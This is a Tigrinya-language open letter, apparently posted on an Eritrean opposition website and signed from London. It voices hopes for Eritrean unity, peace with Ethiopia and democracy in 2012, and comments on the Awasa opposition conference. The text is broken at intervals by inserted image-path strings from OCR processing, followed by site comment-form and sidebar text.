ምሕረትሓዳግ ህዝብኹምን ምስጢር ዓወታቱን ሽዑኡ ብግቡእ ክትርድኡዎን ከተስተማቕሩዎ ኢኹም።

     ዓመት 2012 ነቲ ጸጋ ሃገር ላዕልን፡ ታሕትን ዘይፈላሊ፣ ወድን፡ ጓልን ዘይፈላሊ፣ ኣስላማይ፡ ክስታናይ ዘይፈላሊ፣ መታሕታይ፡ ከበሰታይ ዘይፈላሊ፣ ሲቪል፡ ወትሃደር ዘይፈላሊ፣ ዓረብ፡ ትግርይና ዘይፈላሊ፣ ኣወ! ብሳላ ውሁብ ፍልልያትና ወቂብናን፡ ሰሚርናን፡ ልዕሊ ኹሉውን ድኹምና ሓዪብና፡ ሓያልና ገኒሕና፡ ብተመስገን ብሰላምን፡ ፍቕርን፡ ስኒትን ኣጊጽና ብሓባር ንኽንነብር ተብቅዕና።

     ኣብ መፈጸምታውን፡ ወዮ ካብ ምልኪ ኣሕዋት ዝሓስም የልቦንሞ፡ ናብ ዝመረረ ኣቕሊበ እምበር፡ ንመልምዒ ምልኪ ዳርጋ ቀለብ ኮይኑ ዘሎ መንግስቲ ኢትዮጵያ፡ (ከም ጎረበት ሃገር ሙሉእ ቅሳነትን ምዕባለን እንዳተመነኹሉ።) ደጊም ሕጂስ ይእከል ኣብ ሸንኮለል ምንባር እንተበልኩስ ፍጹም ጌጋ የብሉን። ኣብ ዓመት 2012 መንግስቲ ኢትዮጵያ ካብ ዓለም ብይኑ ሂቡሉ እንክንሱ፡ ብሓይሊ ካብ ሒዙዎ ዘሎ መርየትና ሎሚን ጽባሕን ከይበለን፡ ንኹሉ ቀሚሽ ኣደይ ሓንኲሉኒ ዝብለሉ መኽንያታትውን ንሕልናኡ በዲሁ ክወጽእዩ። ነቲ ኣብቦታ ከካይዶ ዝርከብ ዘሎ ዝተፈላለየ ኤኮኖምያዊ ይኹን ህዝባዊ ንጥፈታት ጠጠው ኣቢሉ፣ ኣብ ልዕሊ ኤርትራና ኣብ ክንዲ ድነ ጥፍኣት ምንጽልላዉ ኣትሪፉ፡ ጸዳል ምሕዝነትን፡ ድሕነትን፡ ግስጋሰን፡ ምትእምማንን ክኾነልና እትስፎ። ብማዕረኡውን ህዝቢ ኢትዮጵያ ካብቲ ብዓይኒ ማዕዶ ዝጥምቶ ዘሎ ኣፍ-ደገ ባሕርታት ኤርትራ ዘይቀሊል ረብሓታት ይኸስር ከምዘሎ መጠን፡ ንጀሚሩዎ ዘሎ ህንጸት ሃገሩ ንውሑስ ኣንፈት ንምምዕዳውን፡ ናብ ብማዕረኡ ተታሓሒዘዮ ዝብሎ ዘሎጥምጥም ድሕረትመሊኡ ንኽጓዓዝውን፡ ከንቱ ትምክሕትንመን ከማይን ተሰይሩ፡ ድልድል ነባሪ ዕርቂ ዘርሓወሉ ትስፉው ዓመተ 2012 ክኾነሉ ተስፋይ።

     ዘይተርፍ ከየትርፈልኩም። ብዛዕባጉብኤ ኣዋሳዘሎኒ ወስ ከብለልኩም ፍቐዱለይ። ገለ-ገለ ዳእላ ዝፈትዉ ኣሕዋት፡ ኣብ ክንዲጉባኤ ኣዋሳ ምስተን ሻርባታት ሓዊሶም፡ጉባኤ ብሔር፡ ብሔረ-ሰባትክብሉ ቀንዮምሞ፡ ገለ-ገለናውን ኣይፋልኩምን እንዳበልና ፍሽኽ ምባል መዓስ ገዲፍናልኩ ቀኒና። ድሓን ይእተዉ መሳሰይትኹም ኢትዮጵያውያን 52 ብሔራውያን ሻርባታት ኢትዮጵያ ኣጸባቢቖሙኹም እምበር፡ እቲ 101 ዝሕብሩ ፍልልያትናን ድሑር ኣወጋግና ፍልልይታትናንስ፡ ኣብ ሕርያ ሕብርታት ንሻርባ መረኻኸበልና ነይሩ።ንዝገበረልካ ወይ ግበረሉ ወይ ንገረሉ።ከም ዝበሃል፡ ወዮ ደኣብገንዘብና ዘካየድናዮ ጉብኤዩ።ዝብል ኣበሃህላ ዳርጋ ፋሺን ኣዋሳ ጌርኩሞ ሸነን ክትብልሉሉ ትደልዩ ኣሎኹም እምበር፡ ደጊምሲ ኣፍኩም መሊእኩምን፡ ከይሓነኽኩምን ሳላኣሕዋትናኢትዮጵያ ማዕሪግና እትብሉሉ ዓመት ደጊም ይግበሮ። ብዝተረፈውን ሓዲሽ ዓመትና፡ ሕብእብእኩም ኣኽቲሙ፡ ጉልባብኩም ቀሊዕኩም፡ ጸገምኩምን ጸገማት ህዝብኹምን ነጺርኩም፡ ሰብን ማልንንኤርትራ ከይጎዳእኩም ብሰላም ንዓድና እትመልሱና ይግበርኩም እንተበልኩ ኣይ ኣቃለልኩኹምን? እንተብወገነይኳ፡ ከምቲ ዝምሰል ኮይኑለይዘሎ።ኣቡኣን ቀሺ፡ ሓዋን ዛቑናይሲ፡ ኣብ ቤታ ኣንከላያ ቆሪሳ ትቖርብ።ከም ዝብሉዎ፡ ኣብዚ ሓዲሽ መሪሕነት ደጊም ሎንዶን ብሎንዶና እንድዩ ከዲኑ ዘሎ። መዓስ ንሱ ጥራሕ፡ ሕልፍ ዝበለውን ኣብቲ ዝለዓለ ጽፍሑ ኣዕሩኽተይ ተወሲኾሞ ኣሎዉሞ፡ ንምንታይ ጽቡቕ ምልክት ገረ ዘይወስዶ? እንተ እቶም ገለ ምስኣቶም ኣብ ኣዋሳ ቀንዮም እንክንሶም፡ ሕጂ ብኹኖ ሓጹር ዘሎዉ ኮይኖም ዝስምዑኻ ካላኦትኣዕሩኽተይ፡ ወይ መሰረታት ጉባኤዚውን እቲ ጉብኤ ኣብ ኢድና ስለ ዝነበረ፡ ዝደለናዮ ንሸይም፡ ንዘይደለናዮውን ንጥርዝ።” (ኣብ ሎንዶን ብእዝነይዝሰማዕኩዎዩ።) ንዝብሉ ዘሎዉ ብምስትውዓል፡  ምስቲ በት ካልእ ሸነኽ ዝፍኖ፡ እዚ ጉባኤ ምስ ተሞክሮ ቀዳማይ ጉብኤ ... ዘዛምድ ብሂል ብምንጽጻርውን፡ ሎሚኸ እዞም ኣብ መሪሕነት ተሰቒሎም ዘሎዉኣዕሩኽተይ፡ ከምቶም ሰብ ቀደም፡ ካን ኣስናንዶ ዘይብሎም ክኾኑ እንዳበልኩ እፈርሓሎም። ስለዚውን ምኽስታን ምኽስታኑስ ብዘይፈልጡ ከይትኽስትኑ ዋሕስ ክሳድ ትኸሉ ኣይገድፈሎምን። ጽባሕ መሲሉና ኔሩ ካብ ምባልን ንምድሓንውን ታሪኽ ሕሩያትን፡ ምሩጻትን ከይድገመልኩም ኣስናኩም ጫሕ ኣብሉዎውን ኣይገድፍን። ብዝተረፈ ጽቡቕ ምንዮት ንመን ምስ ቀተለ፡ ሕዝብና ክሕሾ ምእንታን፡ ከይተሸረፍኩምን ከይተጎረሽኩምን ካብ ጎይቶት ውሽጥን ደገን ዝተሓረረት፡ ብሰላማዊ ህዝባዊ ስልጣን ዝወቀበት፡ ማዕረኣዊት ሃገር ኣብ 2012 እንተ ኣርኢኹሙና ድንቁርናይ ብዘይ መውሓጢ ዘው ከብል ዝኽእል ሰብ እሞ፡ ወድሓንኩም!

ፈጣሪ ሃገርና ይባርኸልና!

ፍትሕን ዲሞክራስን ይንገስ!ስዉኣትና ንዘልዓለም ይዘከሩ!

ሓውኹም:

ሃይለ፡ ወልዱ።

ሎንዶን።Add comment

Your comments are as important as the article you are commenting on. Please enrich the discussion by avoiding personal attacks. We'll publish your comment, if it meets our criteria. تعليقاتك لا تقل اهمية عن المقال المكتوب اعلاه، فالرجاء اثراء النقاش بالابتعاد عنالاساءات الشخصية. سوف ننشر تعليقك اذا استوف شروط النشر



Security code
Refresh

Enough dictatorship

Get Adobe Flash player

Arkokabay Media -----> Poem

Get AdobeFlash player

مرض الرئيس الأريتري بين الشائعة والنفي

Get Adobe Flash player

ALIA GABRES- SHE COTTONSUMMER DRESSES

Get Adobe Flash player